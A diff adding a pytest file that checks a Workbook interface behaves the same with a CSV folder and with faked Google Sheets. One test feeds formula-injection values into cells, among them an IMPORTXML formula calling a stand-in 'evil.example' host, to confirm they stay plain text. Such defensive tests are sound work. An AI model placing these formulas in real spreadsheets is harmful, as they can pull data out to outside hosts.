@@ -1,0 +1,127 @@
+"""The Workbook interface, the same promises from both implementations: the CSV folder and
+Google Sheets (the real gspread client against the fake Sheets API)."""
+from __future__ import annotations
+
+import csv
+
+import pytest
+import responses
+
+from rcabot.bootstrap import SHEETS_SCOPE, TEMPLATES
+from rcabot.workbook import TabNotFound
+from rcabot.workbook.google import GoogleWorkbook
+from rcabot.workbook.local import LocalWorkbook
+from tests.fakes.google import FakeGoogle
+
+OPS_TABS = ("Configuration", "Managers")
+
+
+def template(tab: str) -> list[list[str]]:
+    with open(TEMPLATES / f"{tab}.csv", newline="", encoding="utf-8") as f:
+        return list(csv.reader(f))
+
+
+class LocalSide:
+    def __init__(self, tmp_path):
+        self.workbook = LocalWorkbook.from_templates(tmp_path / "workbook", TEMPLATES)
+        self.folder = tmp_path / "workbook"
+
+    def ops_snapshot(self):
+        return {tab: (self.folder / f"{tab}.csv").read_bytes() for tab in OPS_TABS}
+
+
+class GoogleSide:
+    def __init__(self, fake: FakeGoogle):
+        self.fake = fake
+        for tab in OPS_TABS:
+            fake.sheets.add_tab(tab, template(tab))
+        self.workbook = GoogleWorkbook(fake.sheets.spreadsheet_id, fake.credentials(SHEETS_SCOPE),
+                                       sleep=lambda seconds: None)
+
+    def ops_snapshot(self):
+        return {tab: self.fake.sheets.rows(tab) for tab in OPS_TABS}
+
+
+@pytest.fixture(params=["local", "google"])
+def side(request, tmp_path):
+    if request.param == "local":
+        yield LocalSide(tmp_path)
+        return
+    fake = FakeGoogle()
+    with responses.RequestsMock(assert_all_requests_are_fired=False) as rsps:
+        fake.install(rsps)
+        yield GoogleSide(fake)
+
+
+def trimmed(rows) -> list[list[str]]:
+    """Sheets leaves out trailing empty cells, CSV keeps them: the readers accept both."""
+    out = []
+    for row in rows:
+        row = list(row)
+        while row and row[-1] == "":
+            row.pop()
+        out.append(row)
+    return out
+
+
+HEADERS = {"TicketState": ["Ticket", "Status"], "Tracker": ["Timestamp", "Ticket", "Status"]}
+
+
+def test_reads_the_ops_tabs_by_name_with_their_extra_columns(side):
+    tables = side.workbook.read_tabs(["Configuration", "Managers"])
+    assert trimmed(tables["Managers"]) == trimmed(row for row in template("Managers") if any(row))
+    assert "Notes" in tables["Managers"][0]
+    assert tables["Configuration"][0] == template("Configuration")[0]
+
+
+def test_a_missing_tab_is_named(side):
+    with pytest.raises(TabNotFound) as missing:
+        side.workbook.read_tabs(["Managers", "Escalations"])
+    assert missing.value.tab == "Escalations"
+
+
+def test_ensure_tabs_creates_missing_tabs_and_repairs_old_headers_keeping_rows(side):
+    assert side.workbook.ensure_tabs(HEADERS) == ["TicketState", "Tracker"]
+    side.workbook.replace_tabs({"TicketState": [["Ticket", "Status"], ["RCA-1", "Pinged"]]})
+    side.workbook.replace_tabs({"TicketState": [["Ticket ID", "State"], ["RCA-1", "Pinged"]]})
+    assert side.workbook.ensure_tabs(HEADERS) == ["TicketState"]
+    assert side.workbook.read_tabs(["TicketState"])["TicketState"] == [["Ticket", "Status"], ["RCA-1", "Pinged"]]
+    assert side.workbook.ensure_tabs(HEADERS) == []
+
+
+def test_replace_writes_exactly_the_new_rows_even_when_shorter(side):
+    side.workbook.ensure_tabs(HEADERS)
+    side.workbook.replace_tabs({"TicketState": [["Ticket", "Status"], ["RCA-1", "Pinged"], ["RCA-2", "Waiting"]]})
+    side.workbook.replace_tabs({"TicketState": [["Ticket", "Status"], ["RCA-2", "Accepted"]]})
+    assert side.workbook.read_tabs(["TicketState"])["TicketState"] == [["Ticket", "Status"], ["RCA-2", "Accepted"]]
+
+
+def test_appends_go_after_the_last_row_in_order(side):
+    side.workbook.ensure_tabs(HEADERS)
+    side.workbook.append_rows("Tracker", [["t1", "RCA-1", "Pinged"], ["t2", "RCA-1", ""]])
+    side.workbook.append_rows("Tracker", [["t3", "RCA-1", "Accepted"]])
+    assert trimmed(side.workbook.read_tabs(["Tracker"])["Tracker"]) == [
+        ["Timestamp", "Ticket", "Status"], ["t1", "RCA-1", "Pinged"], ["t2", "RCA-1"], ["t3", "RCA-1", "Accepted"]]
+
+
+def test_text_that_looks_like_a_formula_stays_text(side):
+    side.workbook.ensure_tabs(HEADERS)
+    nasty = ['=IMPORTXML("https://evil.example","//a")', "+1", "-2", "@SUM(A1)"]
+    side.workbook.append_rows("Tracker", [["t1", cell, "Pinged"] for cell in nasty])
+    rows = side.workbook.read_tabs(["Tracker"])["Tracker"][1:]
+    assert [row[1] for row in rows] == nasty
+    if isinstance(side, GoogleSide):
+        assert all(side.fake.sheets.formula("Tracker", f"B{n}") is None for n in range(2, 6))
+
+
+def test_writes_never_touch_the_ops_tabs(side):
+    before = side.ops_snapshot()
+    side.workbook.ensure_tabs(HEADERS)
+    side.workbook.replace_tabs({"TicketState": [["Ticket", "Status"], ["RCA-1", "Pinged"]]})
+    side.workbook.append_rows("Tracker", [["t1", "RCA-1", "Pinged"]])
+    assert side.ops_snapshot() == before
+
+
+def test_appending_to_a_missing_tab_is_an_error_not_a_new_tab(side):
+    with pytest.raises(TabNotFound):
+        side.workbook.append_rows("Tracker", [["t1", "RCA-1", "Pinged"]])
